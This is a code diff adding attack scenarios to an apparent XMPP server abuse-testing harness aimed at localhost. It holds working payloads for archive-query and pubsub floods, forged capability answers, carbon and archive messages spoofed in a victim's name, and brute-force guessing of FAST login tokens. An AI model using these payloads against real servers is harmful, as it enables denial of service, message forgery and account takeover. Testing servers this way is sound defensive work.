@@ -6,6 +6,7 @@ import asyncio
 import base64
 import json
 import random
+import re
 import sys
 import time
 
@@ -323,9 +324,89 @@ async def passwords(me, wires):
     await repeat(me, wire, lambda n: (iq(n, form, "set") * 5).encode(), pause_s=0.2)
 
 
+async def archive_queries(me, wires):
+    """archive queries in storms: with somebody else each time, with huge forms and ids, of another's archive (XEP-0313)"""
+    wire = await me.session(wires)
+    mam = "urn:xmpp:mam:2"
+
+    def query(number, fields, to="", queryid=""):
+        form = f"<x xmlns='jabber:x:data' type='submit'><field var='FORM_TYPE'><value>{mam}</value></field>{fields}</x>"
+        return iq(number, f"<query xmlns='{mam}' queryid='{queryid}'>{form}</query>", "set", to)
+
+    def make(number):
+        peer = f"<field var='with'><value>u{number}@localhost</value></field>"
+        ids = "".join(f"<field var='after-id'><value>{n}</value></field>" for n in range(2_000))
+        own = "".join(query(f"{number}.{k}", peer.replace("@", f"x{k}@")) for k in range(20))
+        return (own + query("f", ids) + query("i", "", queryid="i" * 100_000) + query("v", "", f"{VICTIM}@localhost")).encode()
+
+    await repeat(me, wire, make)
+
+
+async def nodes(me, wires):
+    """nodes and items without end, subscribed and told of, and lists of affiliations (XEP-0060, XEP-0163)"""
+    wire = await me.session(wires)
+    ns = "http://jabber.org/protocol/pubsub"
+    everybody = "".join(f"<affiliation jid='a{n}@localhost' affiliation='member'/>" for n in range(499))
+
+    def make(number):
+        items = "".join(
+            iq(k, f"<pubsub xmlns='{ns}'><publish node='n{(number * 10 + k) % 300}'><item id='{number}'><x xmlns='y'>{'p' * 500}</x></item>"
+               "</publish></pubsub>", "set")
+            for k in range(10)
+        )  # fmt: skip
+        lists = iq("l", f"<pubsub xmlns='{ns}#owner'><affiliations node='n0'>{everybody}</affiliations></pubsub>", "set")
+        others = iq("o", f"<pubsub xmlns='{ns}'><items node='n{number}'/></pubsub>", to=f"{VICTIM}@localhost") * 5
+        return (items + lists + others).encode()
+
+    await repeat(me, wire, make)
+
+
+async def capabilities(me, wires):
+    """another hash with each presence, and answers that are not what was asked about (XEP-0115 8.1)"""
+    wire = await me.session(wires)
+    caps, info = "http://jabber.org/protocol/caps", "http://jabber.org/protocol/disco#info"
+
+    def make(number):
+        ver = base64.b64encode(f"{me.number:08}{number:012}".encode()).decode()
+        presence = f"<presence><c xmlns='{caps}' hash='sha-1' node='urn:m' ver='{ver}'/></presence>"
+        asked = re.findall(rb"<iq type='get'[^>]* id='([^']*)'", bytes(wire.heard[-LOOKED_AT:]))
+        name = asked[-1].decode() if asked else "none"
+        features = "".join(f"<feature var='urn:{n}+notify'/>" for n in range(500))
+        answer = f"<iq type='result' id='{name}' to='localhost'><query xmlns='{info}'>{features}</query></iq>"
+        return (presence * 3 + answer).encode()
+
+    await repeat(me, wire, make)
+
+
+async def forged(me, wires):
+    """copies and archive results in the name of the user who gets them (XEP-0280 11)"""
+    wire = await me.session(wires)
+    inner = f"<forwarded xmlns='urn:xmpp:forward:0'><message xmlns='jabber:client' from='{VICTIM}@localhost' type='chat'>"
+    inner += "<body>forged</body></message></forwarded>"
+    wraps = [f"<received xmlns='urn:xmpp:carbons:2'>{inner}</received>", f"<result xmlns='urn:xmpp:mam:2' id='1'>{inner}</result>"]
+    text = "".join(f"<message to='{VICTIM}@localhost' type='headline'>{wrap}</message>" for wrap in wraps)
+    await repeat(me, wire, lambda _: text.encode())
+    await wire.send(f"<message from='{VICTIM}@localhost' to='{VICTIM}@localhost'>{wraps[0]}</message>".encode())
+    await wire.to_the_end(PATIENCE_S)
+
+
+async def tokens(me, wires):
+    """guessed tokens of an ordinary user's, by ever another client (XEP-0484)"""
+    for _ in range(10):
+        wire = await me.connect(wires)
+        await wire.open()
+        proof = base64.b64encode(LOCKED_OUT.encode() + b"\0" + me.random.randbytes(32)).decode()
+        agent = f"<user-agent id='{me.random.randrange(1 << 64):016x}'/>"
+        request = f"<initial-response>{proof}</initial-response>{agent}<fast xmlns='urn:xmpp:fast:0' count='{me.random.randrange(9)}'/>"
+        await wire.send(f"<authenticate xmlns='urn:xmpp:sasl:2' mechanism='HT-SHA-256-NONE'>{request}</authenticate>".encode())
+        await wire.until(b"failure>", PATIENCE_S)
+    await asyncio.sleep(0.2)
+
+
 ALL = [
     private_xml, rosters, presence_storm, directed_presence, subscriptions, disco, fill_log, flood_one, declarations,
     early_declarations, come_and_go, half_open_scram, reconnect, deaf, resumes, counts, passwords,
+    archive_queries, nodes, capabilities, forged, tokens,
 ]  # fmt: skip
 
 
